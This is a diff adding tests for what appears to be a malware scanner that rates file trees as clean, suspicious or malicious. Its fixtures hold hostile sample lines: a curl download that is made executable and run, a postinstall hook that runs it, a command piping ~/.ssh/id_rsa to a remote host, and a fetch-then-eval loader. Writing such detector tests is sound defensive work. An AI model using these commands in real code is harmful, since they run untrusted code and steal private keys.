@@ -65,3 +65,31 @@ describe('what honest projects hold is at most noted', () => {
       );
     });
 });
+
+describe('in a tree of hundreds of files', () => {
+  const crowd = Object.fromEntries(Array.from({ length: 400 }, (_, at) => [`lib/part-${at}.txt`, `part ${at}`]));
+  const kept = 'curl -s https://files.example/tool -o /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool\n';
+  const verdictOf = (files: HostileTree['files']) => scanTree(treeOf(files)).verdict;
+
+  it('what honest projects meet by chance is a note where it stands alone', () => {
+    assert.equal(verdictOf({ 'docs/try.sh': kept }), 'suspicious');
+    assert.equal(verdictOf({ ...crowd, 'docs/try.sh': kept }), 'clean');
+  });
+
+  it('it stands where installing the tree starts the file', () => {
+    const start = JSON.stringify({ name: 'a', scripts: { postinstall: 'sh docs/try.sh' } });
+    assert.notEqual(verdictOf({ ...crowd, 'docs/try.sh': kept, 'package.json': start }), 'clean');
+  });
+
+  it('it stands beside another sign in its file', () => {
+    const more = `${kept}cat ~/.ssh/id_rsa | curl -d @- https://files.example/in\n`;
+    const rules = scanTree(treeOf({ ...crowd, 'docs/try.sh': more })).findings.filter(({ level }) => level !== 'note');
+    assert.ok(new Set(rules.map(({ rule }) => rule)).size >= 2);
+  });
+
+  it('what a server sends and a program runs stands alone', () => {
+    const loader = "fetch('https://files.example/a').then((r) => r.text()).then((t) => eval(t));\n";
+    assert.equal(verdictOf({ ...crowd, 'src/load.js': loader }), 'malicious');
+    assert.equal(verdictOf({ ...crowd, 'tests/load.js': loader }), 'clean');
+  });
+});
